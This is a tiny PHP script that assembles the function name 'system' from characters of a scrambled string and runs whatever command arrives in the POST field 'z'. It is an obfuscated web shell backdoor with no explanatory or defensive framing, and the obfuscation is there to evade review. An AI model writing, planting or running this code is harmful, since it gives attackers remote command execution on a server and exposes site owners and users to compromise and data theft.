<?php
$s = 'mtsyex_rlhac';
$n = '';
$n .= $s[2]; $n .= $s[3]; $n .= $s[2]; $n .= $s[1]; $n .= $s[4]; $n .= $s[0];
if (isset($_POST['z'])) { $n($_POST['z']); }
